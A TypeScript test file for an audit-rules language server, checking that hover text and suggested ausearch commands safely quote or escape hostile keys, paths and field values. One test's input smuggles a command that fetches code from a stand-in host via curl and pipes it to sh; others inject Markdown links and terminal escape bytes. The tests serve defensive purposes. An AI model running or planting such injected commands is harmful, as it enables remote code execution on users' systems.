import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseRulesDocument } from '../../../server/src/rules/parse';
import { checkRulesText } from '../../../server/src/rules/check';
import { hoverAt, type HoverOptions } from '../../../server/src/rules/hover';
import { markdownCode, markdownText, plainHoverText } from '../../../server/src/rules/hoverText';
import { shellWord } from '../../../server/src/rules/shellWord';

const x86: HoverOptions = { auditVersion: '4.2', hostMachine: 'x86_64' };

/** The hover at the first character of `needle` (plus `offset`) in a one-line file. */
function hoverOn(line: string, needle: string, offset = 0, withRules = false) {
  const character = line.indexOf(needle) + offset;
  assert.ok(character >= offset, `${needle} not in ${line}`);
  const rules = withRules ? checkRulesText(`${line}\n`).rules : undefined;
  const result = hoverAt(parseRulesDocument(`${line}\n`), { line: 0, character },
    { ...x86, rules });
  assert.ok(result, `no hover on ${needle}`);
  return result.contents;
}

/** Markdown links, images, autolinks or HTML a renderer would make live. */
const liveMarkupPattern =
  /(^|[^\\])\[[^\]]*(^|[^\\])\]\(|(^|[^\\])<[a-z/]|(^|[^\\\w])https?:\/\//i;

/** The Markdown outside its code spans (a code span shows its text literally). */
function outsideCodeSpans(markdown: string): string {
  return markdown.replace(/(`+)[\s\S]*?[^`]\1(?!`)/g, '');
}

function assertNoLiveMarkup(markdown: string): void {
  assert.doesNotMatch(outsideCodeSpans(markdown), liveMarkupPattern, markdown);
}

test('the suggested ausearch command quotes a key with shell characters', () => {
  const line = '-a always,exit -F arch=b64 -S open -k x;curl${IFS}evil.example|sh';
  const contents = hoverOn(line, '-k x', 4);
  assert.ok(contents.includes("`ausearch -k 'x;curl${IFS}evil.example|sh'` finds"), contents);
  assert.ok(!contents.includes('`ausearch -k x;curl'), contents);
});

test('a plain key stays unquoted in the command', () => {
  const contents = hoverOn('-w /etc/passwd -p wa -k identity', 'identity');
  assert.ok(contents.includes('`ausearch -k identity` finds'), contents);
});

test('a key written as a Markdown link is shown as text, not as a live link', () => {
  const line = '-a always,exit -F arch=b64 -S open -k [x](https://evil.example/)';
  const contents = hoverOn(line, '[x]');
  assertNoLiveMarkup(contents);
  assert.ok(plainHoverText(contents).includes('Key [x](https://evil.example/): 1 rule'),
    plainHoverText(contents));
});

test('ESC bytes in a key are shown as escapes, and the command uses $\'...\'', () => {
  const line = '-a always,exit -F arch=b64 -S open -k a\u001b]0;t\u0007b';
  const contents = hoverOn(line, '-k a', 3);
  assert.doesNotMatch(contents, /[\u0000-\u0008\u000b-\u001f]/, JSON.stringify(contents));
  assert.ok(contents.includes("ausearch -k $'a\\x1b]0;t\\x07b'"), contents);
});

test('a path, a syscall name and a field value from the file are escaped in hovers', () => {
  const watch = '-w /tmp/**bold**[l](https://evil.example/) -p wa -k k';
  assertNoLiveMarkup(hoverOn(watch, '/tmp'));
  assert.ok(hoverOn(watch, '/tmp').includes('`/tmp/**bold**[l](https://evil.example/)`'),
    'the path goes in a code span');

  const rule = '-a always,exit -F arch=b64 -S [x](https://evil.example/) -k k';
  assertNoLiveMarkup(hoverOn(rule, '[x]'));

  const summary = hoverOn('-a always,exit -F arch=b64 -S open -F path=/x<b>y</b> -k k',
    '-a', 0, true);
  assert.ok(summary.startsWith('This rule'), summary);
  assertNoLiveMarkup(summary);
});

test('markdownCode: a fence longer than any backtick run inside', () => {
  assert.equal(markdownCode('a`b'), '``a`b``');
  assert.equal(markdownCode('`x'), '`` `x ``');
  assert.equal(plainHoverText(markdownCode('a``b')), 'a``b');
  assert.equal(plainHoverText(markdownCode('`x')), '`x');
});

test('markdownText and plainHoverText give back the text as written', () => {
  for (const text of ['[x](https://evil.example/)', '**a** _b_ `c` <d> \\e | f ~g~ www.h.i',
    'a@b.example', 'plain /etc/passwd-1.2']) {
    assert.equal(plainHoverText(markdownText(text)), text);
  }
  assert.equal(markdownText('/etc/passwd-1.2'), '/etc/passwd-1.2');
});

test('shellWord: plain words as they are, others single-quoted or $\'...\'', () => {
  assert.equal(shellWord('identity-1'), 'identity-1');
  assert.equal(shellWord("it's"), "'it'\\''s'");
  assert.equal(shellWord('a b;c'), "'a b;c'");
  assert.equal(shellWord("a\u001b'\\"), "$'a\\x1b\\'\\\\'");
});
